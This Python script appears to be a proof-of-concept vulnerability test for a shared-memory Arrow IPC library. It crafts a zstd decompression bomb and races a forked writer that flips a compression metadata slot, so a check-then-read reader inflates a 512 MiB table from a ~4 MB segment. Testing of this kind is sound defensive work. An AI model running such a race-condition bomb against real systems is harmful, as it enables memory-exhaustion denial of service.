# NEW: the "compressed Arrow IPC refused" check reads the stream's metadata once, then Arrow reads
# the same bytes again. A writer that can still change the segment (a same-user process's unsealed
# memfd -- readers never check seals -- or any posix segment) clears the first RecordBatch's
# `compression` vtable slot while the check runs and restores it before Arrow reads it. The check
# is made slow by 20,000 empty batches after the bomb, so the writer only has to flip every 50 ms.
# Result: a ~4 MB segment makes get() inflate and return a 512 MiB table (and, with a bigger
# declared size, try to allocate anything).
import os, subprocess, sys, time, mmap
import numpy as np, pyarrow as pa
from seg import memfd_segment
from nocopy._codec._arrow._ipc import _fb_int, _fb_field, _fb_table  # adapted: _arrow is a package

ROWS = 512 << 20
EMPTY = 20000


def messages(stream):
    pos = 0
    while pos + 8 <= len(stream):
        cont = int.from_bytes(stream[pos:pos + 4], "little")
        mlen = int.from_bytes(stream[pos + 4:pos + 8], "little", signed=True)
        if cont != 0xFFFFFFFF or mlen <= 0:
            return
        meta = stream[pos + 8:pos + 8 + mlen]
        root = _fb_int(meta, 0, 4)
        kind = _fb_int(meta, _fb_field(meta, root, 1), 1)
        f = _fb_field(meta, root, 3)
        body = _fb_int(meta, f, 8) if f else 0
        yield pos, 8 + mlen + body, kind, meta
        pos += 8 + mlen + body


schema = pa.schema([("v", pa.int8())])
sink = pa.BufferOutputStream()
with pa.ipc.new_stream(sink, schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as w:
    w.write_batch(pa.record_batch([pa.array(np.zeros(ROWS, np.int8))], schema=schema))
a = sink.getvalue().to_pybytes()
sink = pa.BufferOutputStream()
empty = pa.record_batch([pa.array([], pa.int8())], schema=schema)
with pa.ipc.new_stream(sink, schema) as w:
    for _ in range(EMPTY):
        w.write_batch(empty)
b = sink.getvalue().to_pybytes()
ma, mb = list(messages(a)), list(messages(b))
schema_msg = a[ma[0][0]:ma[0][0] + ma[0][1]]
bomb = a[ma[1][0]:ma[1][0] + ma[1][1]]
rest = b"".join(b[p:p + n] for p, n, k, _ in mb[1:])
stream = schema_msg + bomb + rest + b"\xff\xff\xff\xff\x00\x00\x00\x00"
meta = ma[1][3]
header = _fb_table(meta, _fb_int(meta, 0, 4), 2)
vtable = header - _fb_int(meta, header, 4, signed=True)
slot = len(schema_msg) + 8 + vtable + 4 + 2 * 3

# adapted: the same attack on a nocopy posix segment (a file; chmod + rewrite by the same user)
from seg import segment, posix_path, layout
hdr = {"tree": {"k": "pa.ipc", "what": "table", "b": 0}, "buffers": [[0, len(stream)]]}
uri = segment(hdr, stream)
off = layout(hdr, stream)[3]
path = posix_path(uri)
os.chmod(path, 0o600)
fd = os.open(path, os.O_RDWR)
seg_size = os.fstat(fd).st_size
m = mmap.mmap(fd, seg_size)
at = off + slot
orig = m[at:at + 2]
print(f"segment {seg_size} bytes: a {len(bomb)}-byte zstd batch declaring {ROWS >> 20} MiB + {EMPTY} empty batches")

READER = r"""
import sys, time, resource, nocopy
resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))
from nocopy.errors import SegmentCorruptError
got = refused = corrupt = other = 0; n = 0; last = ""
end = time.time() + float(sys.argv[2])
while time.time() < end:
    try:
        t = nocopy.attach(sys.argv[1]).get()
        got += 1; n = t.nbytes; del t
    except SegmentCorruptError as e:
        if "refused" in str(e): refused += 1
        else: corrupt += 1; last = str(e)[-90:]
    except BaseException as e:
        other += 1; last = repr(e)[:100]
print(f"tables returned {got} (each {n} bytes), refused {refused}, corrupt {corrupt}, other {other}; maxrss {resource.getrusage(0).ru_maxrss >> 10} MiB {last}", flush=True)
"""
t = time.time()
p = subprocess.run([sys.executable, "-c", READER, uri, "3"], capture_output=True, text=True, timeout=60)
print("no writer:", p.stdout.strip() or p.stderr.strip()[-300:])

pid = os.fork()
if pid == 0:  # the writer: slot cleared for 50 ms, restored for 50 ms
    end = time.time() + 40
    while time.time() < end:
        m[at:at + 2] = b"\0\0"; time.sleep(0.05)
        m[at:at + 2] = orig; time.sleep(0.05)
    os._exit(0)
p = subprocess.run([sys.executable, "-c", READER, uri, "30"], capture_output=True, text=True, timeout=100)
os.kill(pid, 9); os.waitpid(pid, 0)
out = p.stdout.strip() or p.stderr.strip()[-300:]
print("writer flipping the slot:", out)
got = int(out.split("tables returned ")[1].split()[0]) if "tables returned" in out else 0
print(f"VERDICT: {'vulnerable' if got else 'safe'} {got} get() calls returned a {ROWS >> 20} MiB table from a {seg_size}-byte segment")
